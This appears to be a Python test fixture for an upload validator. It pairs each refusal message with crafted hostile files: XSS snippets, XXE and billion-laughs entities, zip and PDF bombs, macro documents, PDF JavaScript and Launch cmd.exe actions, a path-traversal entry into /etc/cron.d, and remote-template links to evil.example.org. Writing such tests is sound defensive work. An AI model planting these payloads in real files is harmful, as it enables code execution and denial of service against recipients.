"""What nobody may send, and the sentence it is refused with: one for each reason, so that none passes for another."""

import zlib
from zipfile import ZIP_STORED

from tests.documents import corpus

REFUSED = {
    "This file is empty. Choose another one.": {
        "empty.pdf": b"",
    },
    "Send a PDF, a Word or Excel file, an OpenDocument file or a picture (PNG, JPEG, WebP).": {
        "page.pdf": b"<!doctype html><script>alert(1)</script>",
        "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        "drawing.png": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        "page.html": b"<html></html>",
        "program.exe": b"MZ" + bytes(100),
        "entities.svg": corpus.LAUGHS.encode(),
        "before.docx": b"#!/bin/sh\n" + corpus.docx(),
        "late.pdf": b"\n<html>" + corpus.pdf(),
    },
    "The content of this file is not what its name says. Save it again in its own format.": {
        "strategy.docx": corpus.pdf(),
        "strategy.pdf.exe": corpus.pdf(),
        "noextension": corpus.pdf(),
        "figures.docx": corpus.xlsx(),
        "plan.ods": corpus.odt(),
    },
    "An archive cannot be sent as it is. Send the files in it one by one.": {
        "bundle.zip": corpus.archive({"a.txt": "a"}),
        "bundle.docx": corpus.archive({"a.txt": "a"}),
        "nested.zip": corpus.archive({"a.zip": corpus.archive({"b.zip": corpus.bomb()})}),
    },
    "This file holds macros. Save it without macros, as .docx or .xlsx, or as PDF.": {
        "macros.docx": corpus.macro_docx(),
        "macros.docm": corpus.macro_docx(),
        "project.docx": corpus.docx(**{"word/vbaProject.bin": b"x"}),
        "sheets.xlsx": corpus.xlsx(**{"xl/macrosheets/sheet1.xml": "<a/>"}),
        "inside.docx": corpus.docx(**{"word/embeddings/book.xlsm": b"x"}),
        "scripts.odt": corpus.odt(**{"Basic/Standard/Module1.xml": "<a/>"}),
        "project.xlsx": corpus.xlsx(**{"xl/vbaProject.bin": b"x"}),
        "controls.docx": corpus.docx(**{"word/activeX/activeX1.xml": "<a/>"}),
    },
    "This file holds XML definitions that no office program writes. Save it again, or save it as PDF.": {
        "xxe.docx": corpus.docx(**{"[Content_Types].xml": corpus.DTD}),
        "xxe2.docx": corpus.docx(**{"word/settings.xml": corpus.DTD}),
        "xxe16.docx": corpus.docx(**{"word/settings.xml": corpus.DTD.encode("utf-16")}),
        "xxe-late.docx": corpus.padded(**{"word/settings.xml": f"<!--{'<a' * 50_000}-->{corpus.DTD}"}),
        "xxe-instruction.docx": corpus.padded(**{"word/settings.xml": f"<?x <a {'z' * 70_000} ?>{corpus.DTD}"}),
        "xxe-other-name.docx": corpus.named("word/document.dat", corpus.DTD),
        "xxe-other-extension.docx": corpus.docx(
            **{
                "[Content_Types].xml": corpus.types(
                    "word/document.xml", corpus.WORD, "<Default Extension='D' ContentType='a/b+XML'/>"
                ),
                "word/settings.d": "\n" + corpus.BARE_DTD,
            }
        ),
        "xxe-no-type.docx": corpus.docx(**{"word/settings": "\ufeff \n" + corpus.BARE_DTD}),
        "xxe-svg.docx": corpus.docx(**{"word/media/image1.svg": corpus.DTD + "<script/>"}),
        "xxe-little-endian.docx": corpus.docx(**{"word/settings.dat": corpus.BARE_DTD.encode("utf-16-le")}),
        "xxe-attribute.docx": corpus.docx(**{"word/settings.xml": corpus.LAUGHS.replace("<x>", "<x a='&a9;'>")}),
        "xxe-after-many.docx": corpus.padded(
            **{f"word/{n}.xml": f"<!--{n} {'x' * 3_900}--><a/>" for n in range(300)}, **{"word/z.xml": corpus.DTD}
        ),
        "no-root.docx": corpus.padded(**{"word/settings.xml": f"<!--{'x' * 70_000}--><a/>"}),
        "laughs.xlsx": corpus.xlsx(**{"xl/sharedStrings.xml": corpus.LAUGHS}),
        "parameter.docx": corpus.docx(**{"word/document.xml": corpus.PARAMETER}),
        "laughs.odt": corpus.odt(**{"content.xml": corpus.LAUGHS}),
    },
    "This file unpacks to far more than it should. Remove what is large in it, or save it as PDF.": {
        "nested.docx": corpus.archive({"inner.zip": corpus.bomb()}),
        "bomb.docx": corpus.bomb(),
        "ratio.docx": corpus.docx(**{"word/a.bin": bytes(4 * 1024 * 1024)}),
        "types.docx": corpus.padded(**{"[Content_Types].xml": f"<a>{'<a/>' * 120_000}</a>"}),
        "long-types.docx": corpus.padded(40_000, **{"[Content_Types].xml": f"<a>{' ' * 3_000_000}</a>"}),
        "relationships.docx": corpus.related(*[("image", "a.png", "Internal")] * 20_001, **{"a": corpus.noise(40_000)}),
        "holds-bomb.docx": corpus.holding(corpus.bomb()),
        "holds-crowds.docx": corpus.docx(
            **{f"word/{n}.xlsx": corpus.xlsx(**{str(part): "" for part in range(900)}) for n in range(2)}
        ),
        "holds-much.docx": corpus.padded(
            90_000, **{f"word/{n}.xlsx": corpus.xlsx(ZIP_STORED, **{"xl/a": bytes(4_200_000)}) for n in range(2)}
        ),
        "mimetype.odt": corpus.odt(mimetype=b" " * 3_000_000, **{"a": corpus.noise(40_000)}),
        "streams.pdf": corpus.pdf((b"/ObjStm stream\n" + zlib.compress(b"1 0 ")) * 5_001),
        "bomb.pdf": corpus.packed_pdf(b"1 0 " + bytes(4_000_000)),
        "crowd.docx": corpus.crowd(),
        "directory.docx": corpus.huge_directory(),
    },
    "This picture has too many pixels to be shown. Make it smaller and send it again.": {
        "tall.png": corpus.png(height=2_000_000_000),
        "wide.png": corpus.png(width=30_000),
        "large.jpg": corpus.jpeg(15_000, 15_000),
        "wide.webp": corpus.webp(width=30_000),
    },
    "This file is damaged. Open it, save it again and send the new file.": {
        "comments.docx": corpus.padded(**{"word/settings.xml": "<!--" * 16_384}),
        "comments-100.docx": corpus.padded(80_000, **{f"word/{n}.xml": "<!--" * 16_384 for n in range(100)}),
        "encoding.docx": corpus.docx(**{"word/a.dat": "<?xml version='1.0' encoding='x'?>" + corpus.BARE_DTD}),
        "seven.docx": corpus.docx(**{"word/a.xml": "<?xml version='1.0' encoding='utf-7'?><a/>"}),
        "text-other-name.docx": corpus.named("word/document.dat", "no root"),
        "text-escaped-name.docx": corpus.named("word/document%2Edat", "no root", path="word/document.dat"),
        "text.docx": corpus.docx(**{"word/settings.xml": "no root"}),
        "hidden.docx": corpus.sized_zero(),
        "garbled.docx": corpus.garbled(),
        "newer.docx": corpus.flagged(0x20),
        "outside.docx": corpus.docx(**{"../../etc/cron.d/x": "x"}),
        "twice.docx": corpus.docx(**{"Word/Document.xml": "<a/>"}),
        "after.docx": corpus.docx() + b"<script>alert(1)</script>",
        "cut.docx": corpus.docx()[:-30],
    },
    "This file is of two types at once. Save it again in one format.": {
        "two.docx": corpus.docx(**{"%PDF-1.7": "a"}),
    },
    "This PDF has an archive hidden in it. Print it to a new PDF and send that.": {
        "two.pdf": corpus.pdf() + corpus.docx() + b"%%EOF",
    },
    "This PDF is cut off. Save it again, or send the original.": {
        "cut.pdf": corpus.pdf()[:40],
    },
    "This PDF holds a script or starts a program. Print it to a new PDF and send that.": {
        "script.pdf": corpus.pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        "hidden.pdf": corpus.pdf(b"<< /S /J#61vaScript /JS (app.alert(1)) >>"),
        "packed.pdf": corpus.packed_pdf(b"1 0 <</S/JavaScript/JS(app.alert(1))>>"),
        "packed-hidden.pdf": corpus.packed_pdf(b"1 0 <</S/J#61vaScript/JS(app.alert(1))>>").replace(
            b"/ObjStm", b"/Obj#53tm"
        ),
        "packed-launch.pdf": corpus.packed_pdf(b"\n12 0\n<</S /Launch /F (cmd.exe)>>"),
        "packed-second.pdf": corpus.pdf(corpus.packed_pdf(b"1 0 <</A 1>>") + corpus.packed_pdf(b"1 0 <</S/Launch>>")),
        "packed-across.pdf": corpus.packed_across(),
        "launch.pdf": corpus.pdf(b"<< /S /Launch /F (cmd.exe) >>"),
        "across.pdf": corpus.pdf(b"x" * ((1 << 20) - 55) + b"/JavaScript "),
    },
    "Parts of this PDF are packed so that they cannot be looked into. Print it to a new PDF and send that.": {
        "twice-packed.pdf": corpus.packed_pdf(
            b"", b"[/ASCIIHexDecode/FlateDecode]", zlib.compress(b"1 0 <</S/JavaScript>>").hex().encode() + b">"
        ),
        "packed-twice.pdf": corpus.packed_pdf(b"1 0 <</S/JavaScript>>".hex().encode() + b">"),
        "predicted.pdf": corpus.packed_pdf(b"\x021 0 <</S/Java\x02Script>>"),
        "packed-cut.pdf": corpus.packed_pdf(b"", packed=zlib.compress(b"1 0 <</S/JavaScript>>")[:-12]),
        "packed-to-the-end.pdf": corpus.pdf(b"/ObjStm").replace(
            b"trailer", b"stream\n" + zlib.compress(b"1 0 " + corpus.noise(99))[:90]
        ),
    },
    "There is a file in this one that would not be taken by itself. Remove it, or save it all as PDF.": {
        "holds-zip.docx": corpus.holding(corpus.archive({"a.txt": "a"}), "word/embeddings/x.zip"),
        "holds-zip-as-picture.docx": corpus.holding(corpus.archive({"a.txt": "a"}), "word/media/image1.png"),
        "holds-ole.docx": corpus.holding(corpus.COMPOUND, "word/embeddings/oleObject1.bin"),
        "holds-ole-elsewhere.xlsx": corpus.xlsx(**{"xl/a.dat": corpus.COMPOUND}),
        "holds-ole.odt": corpus.odt(**{"Object 1": corpus.COMPOUND}),
        "holds-program.docx": corpus.holding(b"MZ" + bytes(100), "word/Embeddings/x.bin"),
        "holds-rtf.docx": corpus.holding(b"{\\rtf1}", "word/chunk.dat"),
        "holds-macros.docx": corpus.holding(corpus.macro_docx()),
        "holds-xxe.docx": corpus.holding(corpus.xlsx(**{"xl/sharedStrings.xml": corpus.LAUGHS})),
        "holds-template.docx": corpus.holding(corpus.elsewhere("attachedTemplate")),
        "holds-what-holds.docx": corpus.holding(corpus.holding(corpus.xlsx())),
    },
    "This file fetches a template or another file when it is opened. Remove that link, or save it as PDF.": {
        "template.docx": corpus.elsewhere("attachedTemplate", "https://evil.example.org/x.dotm"),
        "template-of-settings.docx": corpus.related(
            ("attachedTemplate", "http://evil.example.org/x.dotm", "external"), of="word/_rels/Settings.xml.RELS"
        ),
        "share.docx": corpus.elsewhere("attachedTemplate", r"\\\\evil.example.org\x.dotm"),
        "share-as-file.docx": corpus.elsewhere("oleObject", "file:///\\\\evil.example.org\\x.xls"),
        "share-escaped.docx": corpus.elsewhere("oleObject", "%5c%5Cevil.example.org%5cx.xls"),
        "host.docx": corpus.elsewhere("subDocument", "//evil.example.org/x.docx"),
        "host-as-file.docx": corpus.elsewhere("subDocument", "file://evil.example.org/c:/x.docx"),
        "frame.docx": corpus.elsewhere("frame"),
        "object.docx": corpus.elsewhere("oleObject", "mhtml:http://evil.example.org/x!x-usc:http://evil.example.org/x"),
        "written-out.docx": corpus.elsewhere("oleObject", "&#104;ttp://evil.example.org/x"),
        "link.docx": corpus.elsewhere("externalLink"),
        "book.docx": corpus.elsewhere("externalLinkPath", "https://evil.example.org/x.xlsx"),
        "chunk.docx": corpus.elsewhere("aFChunk"),
        "package.docx": corpus.elsewhere("package"),
    },
    "This picture is damaged. Open it, save it again and send the new file.": {
        "cut.png": corpus.png()[:30],
        "after.png": corpus.png(after=b"<?php ?>"),
        "nothing.png": corpus.png(width=0),
        "cut.jpg": corpus.jpeg()[:10],
        "after.webp": corpus.webp() + b"<script>",
        "sound.webp": b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(28),
    },
}
